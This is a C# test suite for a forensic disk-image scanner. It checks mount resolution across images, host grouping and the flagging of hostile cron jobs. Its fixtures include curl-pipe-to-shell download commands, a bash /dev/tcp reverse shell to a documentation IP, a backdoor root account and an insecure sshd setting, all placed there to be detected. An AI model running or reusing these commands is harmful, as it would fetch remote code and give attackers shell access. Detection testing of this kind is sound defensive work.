using System.Text;
using System.Text.Json.Nodes;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>Volumes of one machine are seen where the machine sees them, whatever image they lie in.</summary>
public sealed class HostTreeTests : IDisposable
{
    private const string RootUuid = "11111111-1111-4111-8111-111111111111";
    private const string VarUuid = "22222222-2222-4222-8222-222222222222";
    private const string OtherUuid = "33333333-3333-4333-8333-333333333333";
    private const string PartUuid = "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee";
    private const string Crontab = "/var/spool/cron/crontabs/root";

    private readonly Machine _machine = new();

    public void Dispose() => _machine.Dispose();

    [Fact]
    public void Two_images_of_one_machine_are_one_host()
    {
        string root = _machine.Ext4("root", RootUuid, null,
        [
            .. Machine.System("web", $"UUID={RootUuid} / ext4 defaults 0 1\nUUID={VarUuid} /var ext4 defaults 0 2\n"),
            ("usr/local/bin/job", "-> /var/lib/.x/job"), ("etc/cron.d/job", "* * * * * root /usr/local/bin/job\n"),
        ]);
        string var = _machine.Ext4("var", VarUuid, null, [("spool/cron/crontabs/root", Machine.EvilJob), ("lib/.x/job", "-> ../../../opt/tool"), ("lib/note", "not a program\n")]);
        string opt = _machine.Ext4("opt", OtherUuid, null, [("tool", "#!/bin/sh\ncurl -fsSL http://203.0.113.66/y.sh | sh\n")]);
        File.WriteAllText(_machine.At("fstab"), $"UUID={RootUuid} / ext4\nUUID={VarUuid} /var ext4\nUUID={OtherUuid} /opt ext4\n");
        Machine.Run("debugfs", ["-w", "-R", "rm etc/fstab", root]);
        Machine.Run("debugfs", ["-w", "-R", "write " + _machine.At("fstab") + " etc/fstab", root]);
        string first = _machine.Disk("first.raw", "label: gpt", (root, ""));
        string second = _machine.Disk("second.raw", "label: dos", (var, ""), (opt, ""));

        (JsonObject report, string canonical) = Scan(first, second);
        JsonNode host = Assert.Single(report["hosts"]!.AsArray())!;
        Assert.Equal(["gpt1@1048576", "disk2:mbr2@9437184", "disk2:mbr1@1048576"], host["volumes"]!.AsArray().Select(volume => (string)volume!));
        Assert.Equal(["/", "/var", "/opt"], host["mounts"]!.AsArray().Where(mount => (bool)mount!["isFollowed"]!).Select(mount => (string)mount!["mountPoint"]!));
        JsonNode job = Finding(report, "L-CRON-USER.download-pipe-shell", Crontab);
        Assert.Equal("disk2:mbr1@1048576", (string?)job["volume"]);
        Assert.Contains("crontab", string.Join('\n', job["remediation"]!.AsArray().Select(step => (string)step!)) + (string)job["message"]!, StringComparison.Ordinal);
        // The job on the first disk goes through a link to the second and out of it again.
        JsonNode script = Assert.Single(report["findings"]!.AsArray(), finding => (string?)finding!["path"] == "/opt/tool" && ((string)finding["ruleId"]!).Contains("download-pipe-shell", StringComparison.Ordinal))!;
        Assert.Equal("disk2:mbr2@9437184", (string?)script["volume"]);
        Assert.Contains(script["related"]!.AsArray(), related => (string?)related!["path"] == "/etc/cron.d/job");
        JsonObject coverage = report["coverage"]!.AsObject();
        Assert.Equal((3, 3, false), ((int)coverage["volumesSeen"]!, (int)coverage["volumesExamined"]!, (bool)coverage["isIncomplete"]!));
        Assert.Equal(["first.raw", "second.raw"], report["image"]!["disks"]!.AsArray().Select(disk => (string)disk!["file"]!));
        Assert.Empty(ReportSchema.Errors(report));

        Assert.Equal(canonical, Scan([first, second], "--threads", "1").Canonical);
        Assert.Equal(canonical, Scan([first, second], "--threads", "4").Canonical);

        Assert.Equal(Machine.EvilJob, Deadbox.Text("cat", first, second, Crontab));
        Assert.Equal(Machine.EvilJob, Deadbox.Text("cat", first, second, "/spool/cron/crontabs/root", "--volume", "disk2:mbr1"));
        Assert.Contains("curl", Deadbox.Text("cat", first, second, "/usr/local/bin/job"), StringComparison.Ordinal);
        Assert.Contains(Deadbox.Text("files", first, second).Split('\n'), line => line.Contains("disk2:mbr1@1048576", StringComparison.Ordinal) && line.Contains("/spool/cron/crontabs/root", StringComparison.Ordinal)
            && !line.Contains("/var/spool", StringComparison.Ordinal));
        Assert.Contains("/var  UUID=" + VarUuid, Deadbox.Text("info", first, second), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("UUID=" + VarUuid)]
    [InlineData("UUID=22222222-2222-4222-8222-222222222222 ")]
    [InlineData("/dev/disk/by-uuid/" + VarUuid)]
    [InlineData(@"LABEL=my\040data")]
    [InlineData("LABEL=\"my\\040data\"")]
    [InlineData(@"/dev/disk/by-label/my\134x20data")]
    [InlineData("PARTUUID=" + PartUuid)]
    [InlineData("PARTUUID=AAAAAAAA-BBBB-4CCC-8DDD-EEEEEEEEEEEE")]
    [InlineData("/dev/disk/by-partuuid/" + PartUuid)]
    [InlineData("PARTLABEL=var-part")]
    [InlineData("/dev/vda2")]
    [InlineData("/dev/sdc2")]
    [InlineData("/dev/nvme0n1p2")]
    [InlineData("/dev/disk/by-id/scsi-0QEMU_1-part2")]
    public void A_volume_is_found_by_any_name_of_its_device(string source)
    {
        string root = _machine.Ext4("root", RootUuid, null, Machine.System("web", $"LABEL=none / ext4\n{source} /var ext4\n"));
        string var = _machine.Ext4("var", VarUuid, "my data", [("spool/cron/crontabs/root", Machine.EvilJob)]);
        string disk = _machine.Disk("disk.raw", "label: gpt", (root, ""), (var, $"uuid={PartUuid}, name=var-part"));
        Assert.Equal("gpt2@9437184", Mounted(disk));
    }

    [Theory]
    [InlineData("PARTUUID=1234abcd-02")]
    [InlineData("/dev/xvda2")]
    public void So_is_one_of_a_disk_with_an_MBR(string source)
    {
        string root = _machine.Ext4("root", RootUuid, null, Machine.System("web", source + " /var ext4\n"));
        string var = _machine.Ext4("var", VarUuid, null, [("spool/cron/crontabs/root", Machine.EvilJob)]);
        string disk = _machine.Disk("disk.raw", "label: dos\nlabel-id: 0x1234abcd", (root, ""), (var, ""));
        Assert.Equal("mbr2@9437184", Mounted(disk));
    }

    [Theory]
    [InlineData("/dev/sda1 / ext4\n/dev/sdb1 /var ext4\n", "disk2:gpt1@1048576")]
    [InlineData("/dev/vdb1 / ext4\n/dev/vda1 /var ext4\n", "disk2:gpt1@1048576")]
    [InlineData("UUID=" + RootUuid + " / ext4\n/dev/sdb1 /var ext4\n", "disk2:gpt1@1048576")]
    [InlineData("/dev/sda1 / ext4\n/dev/sda2 /var ext4\n", null)]
    public void The_letter_of_a_disk_counts_as_far_as_the_root_tells_what_it_means(string fstab, string? expected)
    {
        string root = _machine.Ext4("root", RootUuid, null, Machine.System("web", fstab));
        string var = _machine.Ext4("var", VarUuid, null, [("spool/cron/crontabs/root", Machine.EvilJob)]);
        Assert.Equal(expected, Mounted(_machine.Disk("a.raw", "label: gpt", (root, "")), _machine.Disk("b.raw", "label: gpt", (var, ""))));
    }

    [Fact]
    public void What_lies_under_a_mount_point_is_scanned_and_said_to_be_hidden()
    {
        string root = _machine.Ext4("root", RootUuid, null,
            [.. Machine.System("web", $"UUID={VarUuid} /var ext4\n"), ("var/spool/cron/crontabs/root", Machine.EvilJob), ("var/.hidden/tool", "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"), ("variable", "x")]);
        string var = _machine.Ext4("var", VarUuid, null, [("spool/cron/crontabs/root", "# nothing\n"), ("spool/cron/crontabs/bob", Machine.EvilJob)]);
        JsonObject report = Scan(_machine.Disk("disk.raw", "label: gpt", (root, ""), (var, ""))).Report;

        JsonNode hidden = Finding(report, "L-CRON-USER.download-pipe-shell", Crontab);
        Assert.Equal(("gpt1@1048576", "/var"), ((string?)hidden["volume"], (string?)hidden["shadowedBy"]));
        Assert.Contains("under the mount point /var", (string)hidden["message"]!, StringComparison.Ordinal);
        JsonNode seen = Finding(report, "L-CRON-USER.download-pipe-shell", "/var/spool/cron/crontabs/bob");
        Assert.Equal(("gpt2@9437184", null), ((string?)seen["volume"], (string?)seen["shadowedBy"]));
        Assert.Equal(0, (int)report["coverage"]!["seen"]! - (int)report["coverage"]!["examined"]! - report["coverage"]!["skipped"]!.AsObject().Sum(pair => (int)pair.Value!));
        // What a running system sees at the path is the other file.
        Assert.Equal("# nothing\n", Deadbox.Text("cat", _machine.At("disk.raw"), Crontab));
        Assert.Empty(ReportSchema.Errors(report));
    }

    [Fact]
    public void Two_systems_are_two_hosts_and_judged_apart()
    {
        const string fstab = $"UUID={OtherUuid} /home ext4\n";
        (string, string)[] second = [.. Machine.System("green", fstab).Where(file => file.Item1 != "etc/passwd"), ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n")];
        string a = _machine.Ext4("a", RootUuid, null, [.. Machine.System("blue", fstab), ("etc/ssh/sshd_config", "PermitEmptyPasswords no\n"), ("etc/cron.d/x", "* * * * * root /opt/only-on-green\n")]);
        string b = _machine.Ext4("b", VarUuid, null, [.. second, ("etc/ssh/sshd_config", "PermitEmptyPasswords yes\n"), ("opt/only-on-green", "#!/bin/sh\ncurl -fsSL http://203.0.113.66/y.sh | sh\n")]);
        string home = _machine.Ext4("home", OtherUuid, null, [("bob/.bashrc", "x\n")]);
        JsonObject report = Scan(_machine.Disk("disk.raw", "label: gpt", (a, ""), (b, ""), (home, ""))).Report;

        Assert.Equal(["blue", "green"], report["hosts"]!.AsArray().Select(host => (string)host!["hostName"]!));
        Assert.Equal([2, 1], report["hosts"]!.AsArray().Select(host => host!["volumes"]!.AsArray().Count));
        Assert.All(report["findings"]!.AsArray().Where(finding => (string)finding!["ruleId"]! is "L-SSHD.empty-passwords" or "L-ACCOUNT-UID0.second-root"), finding => Assert.Equal("gpt2@9437184", (string?)finding!["volume"]));
        Assert.Single(report["findings"]!.AsArray(), finding => (string)finding!["ruleId"]! == "L-SSHD.empty-passwords");
        Assert.Contains(report["findings"]!.AsArray(), finding => ((string)finding!["ruleId"]!).StartsWith("L-UID0.", StringComparison.Ordinal) || ((string)finding["evidence"]!).Contains("toor", StringComparison.Ordinal));
        // The job of the first system does not start the program of the second.
        Assert.DoesNotContain(report["findings"]!.AsArray(), finding => (string?)finding!["path"] == "/opt/only-on-green" && finding["related"]!.AsArray().Any(related => (string?)related!["path"] == "/etc/cron.d/x"));
        Assert.Contains(report["diagnostics"]!.AsArray(), diagnostic => (string?)diagnostic!["code"] == "host.volume.shared");
        Assert.Empty(ReportSchema.Errors(report));
    }

    [Fact]
    public void Mount_points_behind_links_units_and_volumes_nobody_mounts()
    {
        string root = _machine.Ext4("root", RootUuid, null,
        [
            .. Machine.System("web", $"UUID={VarUuid} /srv/./www/ ext4\n"), ("data/.keep", ""), ("srv/www", "-> ../data"), ("link", "-> srv/www/../etc/hostname"),
            ("etc/systemd/system/mnt-x.mount", $"[Mount]\nWhat=/dev/disk/by-uuid/{OtherUuid}\nWhere=/mnt/x\nType=ext4\n"),
            ("etc/systemd/system/local-fs.target.wants/mnt-x.mount", "-> ../mnt-x.mount"), ("mnt/.keep", ""), ("etc/cron.d/a", "* * * * * root /mnt/x/tool\n* * * * * root /srv/www/up\n"),
        ]);
        string data = _machine.Ext4("data", VarUuid, null, [("page", "x\n"), ("up", "-> ../etc/../opt/real"), ("evil", "#!/bin/sh\ncurl http://203.0.113.66/y | sh\n")]);
        string x = _machine.Ext4("x", OtherUuid, null, [("tool", "#!/bin/sh\ncurl -fsSL http://203.0.113.66/y.sh | sh\n")]);
        string alone = _machine.Ext4("alone", "44444444-4444-4444-8444-444444444444", null, [("etc/cron.d/z", "* * * * * root curl http://203.0.113.66/z | sh\n")]);
        JsonObject report = Scan(_machine.Disk("disk.raw", "label: gpt", (root, ""), (data, ""), (x, ""), (alone, ""))).Report;

        Assert.Equal(["/data", "/mnt/x"], report["hosts"]![0]!["mounts"]!.AsArray().Where(mount => (bool)mount!["isFollowed"]!).Select(mount => (string)mount!["mountPoint"]!).Order());
        // The mount point of the unit is missing in the image: it is made, as systemd does.
        Assert.Contains(report["findings"]!.AsArray(), finding => (string?)finding!["path"] == "/mnt/x/tool");
        JsonNode nobody = Finding(report, "L-CRON-SYS.download-pipe-shell", "/etc/cron.d/z");
        Assert.Equal("gpt4@26214400", (string?)nobody["volume"]);
        JsonNode volume = report["image"]!["volumes"]![3]!;
        Assert.Null(volume["host"]);
        Assert.Equal("web\n", Deadbox.Text("cat", _machine.At("disk.raw"), "/link"));
        Assert.Equal("x\n", Deadbox.Text("cat", _machine.At("disk.raw"), "/srv/www/page"));
    }

    [Fact]
    public void What_is_not_followed_is_listed_with_its_reason()
    {
        string root = _machine.Ext4("root", RootUuid, null,
        [
            .. Machine.System("web", $"""
            UUID={RootUuid} / ext4
            UUID={VarUuid} /var ext4
            UUID={OtherUuid} /var ext4
            UUID={OtherUuid} /srv xfs
            UUID={OtherUuid} none ext4
            UUID={OtherUuid} /bin/sh ext4
            UUID={RootUuid} /again ext4
            UUID=deadbeef /gone ext4
            tmpfs /tmp tmpfs
            server:/x /mnt nfs
            /a /b none bind
            PARTLABEL=swap none swap sw
            """),
        ]);
        string var = _machine.Ext4("var", VarUuid, null, [("spool/cron/crontabs/root", Machine.EvilJob)]);
        string other = _machine.Ext4("other", OtherUuid, null, [("spool/cron/crontabs/root", "0 0 * * * curl http://203.0.113.66/z | sh\n")]);
        File.WriteAllBytes(_machine.At("swap"), new byte[2 << 20]);
        Machine.Run("mkswap", ["-q", _machine.At("swap")]);
        JsonObject report = Scan(_machine.Disk("disk.raw", "label: gpt", (root, ""), (var, ""), (other, ""), (_machine.At("swap"), "name=swap"))).Report;

        string[] notes = [.. report["hosts"]![0]!["mounts"]!.AsArray().Select(mount => $"{mount!["source"]} {mount["mountPoint"]} {mount["isFollowed"]}: {mount["note"]}")];
        Assert.Equivalent(new[]
        {
            $"UUID={RootUuid} / true: ", $"UUID={VarUuid} /var false: not followed: a later entry mounts another volume there", $"UUID={OtherUuid} /var true: ",
            $"UUID={OtherUuid} /srv false: not followed: a mount would fail, the volume is ext4", $"UUID={OtherUuid} none false: not followed: the mount point is no absolute path",
            $"UUID={OtherUuid} /bin/sh false: not followed: the mount point is no directory of the image", $"UUID={RootUuid} /again false: not followed: the root volume again",
            "UUID=deadbeef /gone false: no such volume in the image", "tmpfs /tmp false: kernel file system without files on a disk", "server:/x /mnt false: file server, not in the image",
            "/a /b false: bind mount, not followed", "PARTLABEL=swap none false: swap",
        }, notes, strict: true);
        // The volume that was mounted over stands for itself and is scanned all the same.
        Assert.Equal("gpt3@17825792", (string?)Finding(report, "L-CRON-USER.download-pipe-shell", Crontab)["volume"]);
        Assert.Equal((5, 4), ((int)report["coverage"]!["volumesSeen"]! + 1, (int)report["coverage"]!["volumesExamined"]! + 1));
        Assert.Equal("swap", (string?)report["image"]!["volumes"]![3]!["notReadBecause"]);
    }

    [Fact]
    public void A_hostile_table_of_mounts_ends()
    {
        var fstab = new StringBuilder();
        fstab.Append($"UUID={VarUuid} / ext4\nUUID={VarUuid} /var/../../.. ext4\nUUID={RootUuid} /loop/a ext4\nUUID={VarUuid} /loop/x ext4\nUUID={VarUuid} /self/self/self ext4\n");
        fstab.Append($"UUID={VarUuid} /\\033[2J\\012 ext4\nUUID={VarUuid} {new string('/', 5000)}var ext4\nUUID={VarUuid} /{string.Join('/', Enumerable.Repeat("var", 3000))} ext4\n");
        for (int i = 0; i < 50; i++)
        {
            fstab.Append("UUID=").Append(VarUuid).Append(' ').Append(string.Concat(Enumerable.Repeat("/var/..", 9000))).Append(" ext4\n");
        }
        for (int i = 0; i < 100_000; i++)
        {
            fstab.Append("UUID=").Append(VarUuid).Append(" /var/").Append(i % 900).Append(" ext4\n");
        }
        string root = _machine.Ext4("root", RootUuid, null, [.. Machine.System("web", fstab.ToString()), ("loop", "-> /loop"), ("self", "-> ."), ("etc/cron.d/z", "* * * * * root curl http://203.0.113.66/z | sh\n")], mib: 24);
        string var = _machine.Ext4("var", VarUuid, null, [("spool/x", "x\n"), ("spool/cron/crontabs/root", Machine.EvilJob)]);
        var clock = System.Diagnostics.Stopwatch.StartNew();
        JsonObject report = Scan(_machine.Disk("disk.raw", "label: gpt", (root, ""), (var, ""))).Report;
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(60), clock.Elapsed.ToString());
        Finding(report, "L-CRON-SYS.download-pipe-shell", "/etc/cron.d/z");
        Assert.Contains(report["diagnostics"]!.AsArray(), diagnostic => (string?)diagnostic!["code"] == "host.mounts.many");
        Assert.Equal(2, (int)report["coverage"]!["volumesExamined"]!);
        Assert.DoesNotContain('\x1b', report.ToJsonString());
        (int code, byte[] output, string error) = Deadbox.Run("info", _machine.At("disk.raw"));
        Assert.Equal(0, code);
        Assert.DoesNotContain('\x1b', Encoding.UTF8.GetString(output) + error);
    }

    /// <summary>The volume that is seen at <c>/var</c>; null when none is.</summary>
    private static string? Mounted(params string[] images)
    {
        JsonNode info = JsonNode.Parse(Deadbox.Text(["info", .. images, "--format", "json"]))!;
        JsonNode mount = Assert.Single(info["hosts"]![0]!["mounts"]!.AsArray(), mount => (string?)mount!["mountPoint"] == "/var")!;
        Assert.Equal(mount["volume"] is not null, (bool)mount["isFollowed"]!);
        Assert.Equal(mount["volume"] is null ? "no such volume in the image" : null, (string?)mount["note"]);
        return (string?)mount["volume"];
    }

    private static (JsonObject Report, string Canonical) Scan(params string[] images) => Scan(images, "--profile", "standard");

    private static (JsonObject Report, string Canonical) Scan(string[] images, params string[] options) => Deadbox.Scan(images[0], [.. images[1..], .. options]);

    private static JsonNode Finding(JsonObject report, string rule, string path) =>
        Assert.Single(report["findings"]!.AsArray(), finding => (string?)finding!["ruleId"] == rule && (string?)finding["path"] == path)!;
}
